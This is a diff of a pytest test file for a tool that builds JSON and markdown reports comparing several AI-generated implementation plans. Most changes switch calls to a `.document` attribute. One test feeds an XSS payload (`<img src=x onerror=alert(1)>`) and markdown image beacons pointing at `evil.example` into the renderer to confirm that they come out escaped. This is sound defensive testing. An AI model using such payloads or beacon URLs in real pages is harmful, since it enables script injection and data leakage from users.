@@ -178,7 +178,7 @@ def three(workspace: Path, out_dir: Path) -> RunRecord:
 
 
 def test_matrix_lists_each_file_with_the_plans_that_name_it(three: RunRecord) -> None:
-    files = build_report(three)["critical_files"]
+    files = build_report(three).document["critical_files"]
     assert files["matrix"] == [
         {"path": "src/app/cache.py", "named_by": ["simplicity", "security"], "count": 2},
         {"path": "src/app/main.py", "named_by": ["simplicity", "security"], "count": 2},
@@ -195,7 +195,7 @@ def test_matrix_lists_each_file_with_the_plans_that_name_it(three: RunRecord) ->
 
 
 def test_disagreements_hold_approach_risks_and_unique_files(three: RunRecord) -> None:
-    found = build_report(three)["disagreements"]
+    found = build_report(three).document["disagreements"]
     assert found["approach"]["simplicity"] == "Wrap the loader in a small LRU cache."
     security_approach = found["approach"]["security"]
     assert security_approach.startswith("Sign every cache key. Explain")
@@ -229,7 +229,7 @@ def test_failures_list_failed_incomplete_and_invalid_plans(
     )
     three.results.append(invalid)
     three.perspectives.append("testability")
-    failures = build_report(three)["failures"]
+    failures = build_report(three).document["failures"]
     assert [(f["label"], f["status"]) for f in failures] == [
         ("security", "incomplete"),
         ("performance", "failed"),
@@ -250,7 +250,7 @@ def test_failures_list_failed_incomplete_and_invalid_plans(
 
 
 def test_plans_carry_relative_paths_tokens_and_cost(three: RunRecord) -> None:
-    simplicity, security, performance = build_report(three)["plans"]
+    simplicity, security, performance = build_report(three).document["plans"]
     assert simplicity["plan_file"] == "simplicity.md"
     assert simplicity["transcript"] == "simplicity.transcript.jsonl"
     assert performance["plan_file"] is None
@@ -271,7 +271,7 @@ def test_plans_carry_relative_paths_tokens_and_cost(three: RunRecord) -> None:
 
 
 def test_totals_sum_tokens_and_the_known_costs(three: RunRecord) -> None:
-    totals = build_report(three)["totals"]
+    totals = build_report(three).document["totals"]
     assert totals["tokens"]["input"] == 1_000_000 + 10_000 + 50
     assert totals["tokens"]["total"] == 1_310_000 + 11_000 + 55
     assert totals["cost_usd"] == pytest.approx(4.5975 + 0.225)
@@ -281,7 +281,7 @@ def test_totals_sum_tokens_and_the_known_costs(three: RunRecord) -> None:
 
 def test_cost_is_unknown_when_no_model_has_a_price(workspace: Path, out_dir: Path) -> None:
     only = make_result("plan", workspace, out_dir, text=plan_text(REPO_FILES[:3]), model="scripted")
-    totals = build_report(make_record(out_dir, [only], [None]))["totals"]
+    totals = build_report(make_record(out_dir, [only], [None])).document["totals"]
     assert totals["cost_usd"] is None
     assert totals["cost_complete"] is False
 
@@ -308,7 +308,7 @@ def test_estimate_cost_is_none_for_unknown_models(model: str) -> None:
 
 
 def test_run_fields_pass_through(three: RunRecord) -> None:
-    report = build_report(three)
+    report = build_report(three).document
     assert report["schema_version"] == 2
     assert report["run"] == "gentle-breeze"
     assert report["exit_code"] == 1
@@ -321,7 +321,7 @@ def test_run_fields_pass_through(three: RunRecord) -> None:
 def test_a_changed_workspace_outranks_failed_plans(three: RunRecord) -> None:
     three.workspace_unchanged = False
     three.workspace_problem = "src/app/main.py was modified"
-    report = build_report(three)
+    report = build_report(three).document
     assert report["status"] == "workspace_changed"
     assert report["workspace_problem"] == "src/app/main.py was modified"
     assert "❌ **workspace changed:** src/app/main.py was modified" in render_markdown(report)
@@ -333,7 +333,7 @@ def test_two_valid_plans_report_ok_and_agree_on_first(workspace: Path, out_dir: 
         make_result(label, workspace, out_dir, text=plan_text(files))
         for label, files in plans.items()
     ]
-    report = build_report(make_record(out_dir, results, ["simplicity", "testability"]))
+    report = build_report(make_record(out_dir, results, ["simplicity", "testability"])).document
     assert report["status"] == "ok"
     assert report["critical_files"]["agree_on_first"] is True
     assert report["disagreements"]["unique_files"] == {
@@ -349,13 +349,13 @@ def test_front_matter_and_a_title_starting_with_approach_are_not_sections(
         REPO_FILES[:3], title="Approach to caching", approach="The real approach."
     )
     only = make_result("plan", workspace, out_dir, text=text)
-    report = build_report(make_record(out_dir, [only], [None]))
+    report = build_report(make_record(out_dir, [only], [None])).document
     assert report["disagreements"]["approach"] == {"plan": "The real approach."}
 
 
 def test_markdown_has_the_side_by_side_and_critical_file_tables(three: RunRecord) -> None:
     three.perspectives[2] = "perf | ops"
-    markdown = render_markdown(build_report(three))
+    markdown = render_markdown(build_report(three).document)
     assert markdown.startswith("# Plan report: gentle-breeze\n")
     assert "| | simplicity | security | perf \\| ops |" in markdown
     assert "| Status | ✅ complete | ⚠️ incomplete | ❌ failed |" in markdown
@@ -383,7 +383,7 @@ def test_markdown_escapes_pipes_and_newlines_in_cells(workspace: Path, out_dir: 
     only = make_result(
         "plan", workspace, out_dir, text=plan_text(REPO_FILES[:3], title="Cache | loader")
     )
-    report = build_report(make_record(out_dir, [only], ["line one\nline two"]))
+    report = build_report(make_record(out_dir, [only], ["line one\nline two"])).document
     markdown = render_markdown(report)
     assert "| Title | Cache \\| loader |" in markdown
     # A name is shown on one line (the CLI refuses such names; old reports may hold them).
@@ -410,7 +410,7 @@ def test_markdown_is_inert_whatever_the_model_and_the_requirements_say(
         ["<img src=x onerror=alert(1)>"],
         requirements="Do it" + HOSTILE + "\n![beacon](https://evil.example/b.png)",
     )
-    markdown = render_markdown(build_report(record))
+    markdown = render_markdown(build_report(record).document)
     assert "\x1b" not in markdown and "\x07" not in markdown
     assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)&gt;" in markdown
     assert "![" not in markdown and "!\\[](http://evil.example/?d=secret)" in markdown
@@ -421,7 +421,7 @@ def test_markdown_is_inert_whatever_the_model_and_the_requirements_say(
 
 def test_markdown_reads_well_for_one_plan(workspace: Path, out_dir: Path) -> None:
     only = make_result("plan", workspace, out_dir, text=plan_text(REPO_FILES[:3]))
-    markdown = render_markdown(build_report(make_record(out_dir, [only], [None])))
+    markdown = render_markdown(build_report(make_record(out_dir, [only], [None])).document)
     assert "| | plan |" in markdown
     assert "| File | Why |" in markdown  # one plan: its reasons instead of a matrix
     assert "| `src/app/main.py` | needed for critical files for implementation |" in markdown
@@ -437,7 +437,7 @@ def test_markdown_reads_well_for_eight_plans(workspace: Path, out_dir: Path) -> 
     results = [
         make_result(label, workspace, out_dir, text=plan_text(REPO_FILES[:3])) for label in labels
     ]
-    markdown = render_markdown(build_report(make_record(out_dir, results, list(labels))))
+    markdown = render_markdown(build_report(make_record(out_dir, results, list(labels))).document)
     assert "| | " + " | ".join(labels) + " |" in markdown
     assert "| **`src/app/cache.py`** | ✓ | ✓ | ✓ | ✓ | ✓ | ✓ | ✓ | ✓ | 8 of 8 |" in markdown
     assert "None: every critical file is named by at least two plans." in markdown
@@ -448,7 +448,7 @@ def test_links_are_relative_and_url_quoted(workspace: Path, out_dir: Path) -> No
     only = make_result("plan", workspace, out_dir, text=plan_text(REPO_FILES[:3]))
     only.plan_path = out_dir / "my plans" / "plan (1).md"
     only.transcript = out_dir.parent / "elsewhere.jsonl"
-    report = build_report(make_record(out_dir, [only], [None]))
+    report = build_report(make_record(out_dir, [only], [None])).document
     assert report["plans"][0]["plan_file"] == "my plans/plan (1).md"
     assert report["plans"][0]["transcript"] == "../elsewhere.jsonl"
     markdown = render_markdown(report)
@@ -463,8 +463,10 @@ def test_write_report_writes_json_and_markdown(three: RunRecord) -> None:
     assert written.document == json.loads(json_path.read_text())
     assert written.status == written.document["status"]
     assert json_path == three.out_dir / "report.json"
-    assert json.loads(json_path.read_text(encoding="utf-8")) == build_report(three)
-    assert markdown_path.read_text(encoding="utf-8") == render_markdown(build_report(three))
+    assert json.loads(json_path.read_text(encoding="utf-8")) == build_report(three).document
+    assert markdown_path.read_text(encoding="utf-8") == render_markdown(
+        build_report(three).document
+    )
     three.exit_code = 0
     write_report(three)  # replacing an earlier report leaves no temporary files behind
     assert json.loads(json_path.read_text(encoding="utf-8"))["exit_code"] == 0
@@ -479,7 +481,7 @@ def test_record_rejects_perspectives_that_do_not_match_results(out_dir: Path) ->
 
 
 def test_schema_doc_names_every_key_build_report_produces(three: RunRecord) -> None:
-    report = build_report(three)
+    report = build_report(three).document
     keys = {*report, *report["plans"][0], *report["totals"], *report["critical_files"]}
     keys |= {*report["disagreements"], *report["failures"][0], *report["plans"][0]["tokens"]}
     missing = sorted(key for key in keys if f"`{key}`" not in REPORT_SCHEMA_DOC)
@@ -537,7 +539,7 @@ def test_complete_but_invalid_plans_are_not_ok(workspace: Path, out_dir: Path) -
     """Every plan invalid, exit 1, yet status "ok" and "every plan completed"."""
     missing_files = plan_text(["src/app/main.py", "src/app/nowhere.py"])
     results = [make_result(label, workspace, out_dir, text=missing_files) for label in ("a", "b")]
-    report = build_report(make_record(out_dir, results, ["a", "b"], exit_code=1))
+    report = build_report(make_record(out_dir, results, ["a", "b"], exit_code=1)).document
     assert report["status"] == "plan_invalid"
     headline = render_markdown(report).splitlines()[2]
     assert "ok" not in headline.split(":")[0]
@@ -545,14 +547,14 @@ def test_complete_but_invalid_plans_are_not_ok(workspace: Path, out_dir: Path) -
 
 
 def test_the_headline_counts_what_happened_to_each_plan(three: RunRecord) -> None:
-    headline = render_markdown(build_report(three)).splitlines()[2]
+    headline = render_markdown(build_report(three).document).splitlines()[2]
     assert "plan_failed" in headline
     assert "1 of 3 plans failed, 1 incomplete, 1 valid" in headline
 
 
 def test_an_interrupted_run_says_so(three: RunRecord) -> None:
     three.exit_code = 130
-    report = build_report(three)
+    report = build_report(three).document
     assert report["status"] == "interrupted"
     assert "interrupted" in render_markdown(report).splitlines()[2]
 
@@ -561,7 +563,7 @@ def test_a_workspace_check_without_git_status_is_not_called_unchanged(three: Run
     """`git status` failed, yet the report said "workspace unchanged"."""
     three.workspace_check = "files_only"
     three.workspace_check_note = "`git status` could not run after the run"
-    report = build_report(three)
+    report = build_report(three).document
     assert report["workspace_check"] == "files_only"
     assert report["workspace_check_note"] == "`git status` could not run after the run"
     header = render_markdown(report).split("## Requirements")[0]
